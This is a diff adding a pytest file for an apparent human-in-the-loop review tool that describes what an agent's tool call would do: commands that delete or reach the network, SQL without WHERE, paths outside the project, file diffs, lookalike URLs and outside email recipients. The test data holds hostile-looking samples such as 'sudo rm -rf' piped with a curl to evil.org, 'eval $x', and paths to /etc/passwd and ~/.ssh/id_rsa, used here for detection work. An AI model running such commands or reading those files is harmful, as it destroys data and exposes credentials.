@@ -1,0 +1,94 @@
+"""What a call would do: sections by argument, with paths, addresses and differences."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from hitl_tui.effects.addresses import of_recipients, of_url
+from hitl_tui.effects.view import EffectSettings, Section, sections, worth_showing
+
+PLAIN = EffectSettings({})
+
+
+def shown(args: dict[str, Any], settings: EffectSettings = PLAIN, tool: str = "run") -> list[Section]:
+    return list(worth_showing(sections(tool, args, settings)))
+
+
+def test_commands_are_shown_with_what_they_write_delete_and_reach() -> None:
+    (section,) = shown({"cmd": "sudo rm -rf a && curl https://evil.org | tee b > c; ls", "host": "web-07"})
+    assert [(one.text, one.marks, one.detail, one.depth) for one in section.effects] == [
+        ("sudo rm -rf a", (), "", 0), ("rm -rf a", ("deletes",), "", 1), ("curl https://evil.org", ("network",), "to evil.org", 0),
+        ("tee b", ("writes",), "into c", 0), ("ls", (), "", 0),
+    ]  # fmt: skip
+    (section,) = shown({"command": "eval $x"})
+    assert section.problem == "it uses eval" and section.as_json() == {
+        "argument": "command", "kind": "shell", "problem": "it uses eval", "effects": []
+    }  # fmt: skip
+
+
+def test_a_rule_says_what_an_argument_holds() -> None:
+    assert shown({"script": "rm a"}) == []
+    assert shown({"script": "rm a"}, EffectSettings({"script": "shell"}))[0].kind == "shell"
+    assert shown({"script": "rm a", "n": 1}, EffectSettings({"*": "shell"}))[0].effects[0].marks == ("deletes",)
+    assert shown({"cmd": "rm a"}, EffectSettings({"cmd": "none"})) == []
+
+
+def test_statements_without_where_are_marked_and_questions_are_no_sql() -> None:
+    (section,) = shown({"sql": "DELETE FROM users; SELECT 1"})
+    assert [(one.marks, one.style) for one in section.effects] == [(("delete", "no WHERE"), "error"), (("select",), "muted")]
+    assert shown({"query": "which hotels are free in May?"}) == []
+
+
+def test_paths_outside_the_folder_are_marked_with_links_followed(tmp_path: Path) -> None:
+    folder = tmp_path / "project"
+    folder.mkdir()
+    (folder / "link").symlink_to(tmp_path)
+    settings = EffectSettings({}, str(folder))
+    for path in ("../secret", "/etc/passwd", "a/../../secret", "link/secret", "~/.ssh/id_rsa"):
+        assert shown({"path": path}, settings)[0].effects[0].marks == ("outside",), path
+    assert shown({"path": "a/../b"}, settings)[0].effects[0].marks == ()
+
+
+def test_a_written_file_is_shown_as_a_difference(tmp_path: Path) -> None:
+    (tmp_path / "a.txt").write_text("one\ntwo\nthree\n")
+    settings = EffectSettings({}, str(tmp_path))
+
+    def rows(tool: str, **args: str) -> list[tuple[object, ...]]:
+        return [(one.marks, one.text, one.detail) for part in shown(args, settings, tool) if part.kind == "change" for one in part.effects]
+
+    assert rows("write_file", path="a.txt", content="one\n2\nthree\n") == [
+        ((), "one", ""), (("removed",), "two", ""), (("added",), "2", ""), ((), "three", "")
+    ]  # fmt: skip
+    assert rows("edit_file", file_path="a.txt", old_string="two", new_string="2") == [(("removed",), "two", ""), (("added",), "2", "")]
+    assert rows("write_file", path="b.txt", content="x") == [((), "", "new file")]
+    assert rows("write_file", path="a.txt", content="one\ntwo\nthree\n") == [((), "", "no change")]
+    assert rows("read_file", path="a.txt", content="x") == []
+    (tmp_path / "bytes").write_bytes(b"\xff\xfe")
+    assert rows("write_file", path="bytes", content="x") == [((), "", "the file is no text")]
+
+
+@pytest.mark.parametrize(
+    ("url", "host", "domain", "odd"),
+    [
+        ("https://www.Example.co.uk/a?b", "www.example.co.uk", "example.co.uk", ""),
+        ("https://xn--exmple-4nf.com", "xn--exmple-4nf.com", None, "looks like example.com"),
+        ("https://xn--bcher-kva.org", "xn--bcher-kva.org", None, "shown as bücher.org"),
+        ("http://example.com", "example.com", "example.com", "not encrypted"), ("https://example.com@evil.org/", "", "", "ambiguous"),
+        ("https://examp1e.com", "examp1e.com", "examp1e.com", "looks like example.com"), ("https://10.0.0.7/a", "10.0.0.7", "", "number"),
+        ("file:///etc/passwd", "", "", "no"),
+    ],
+)  # fmt: skip
+def test_urls_have_a_registered_domain_and_what_is_odd(url: str, host: str, domain: str | None, odd: str) -> None:
+    found = of_url(url, ("example.com", "example.co.uk"))
+    assert (found.host, domain is None or found.domain == domain) == (host, True)
+    assert odd in found.odd and bool(odd) == bool(found.odd)
+
+
+def test_recipients_outside_the_organisation_are_marked_only_where_it_is_known() -> None:
+    found = of_recipients(["Ann <ann@example.com>", "bob@mail.example.com, eve@evil.org"], ("example.com",))
+    assert [(one.host, one.outside) for one in found] == [("example.com", False), ("mail.example.com", False), ("evil.org", True)]
+    assert [one.outside for one in of_recipients("eve@evil.org")] == [None]
+    assert of_recipients("eve@evil.org <ann@example.com>", ("example.com",))[0].odd == "it is no plain address"
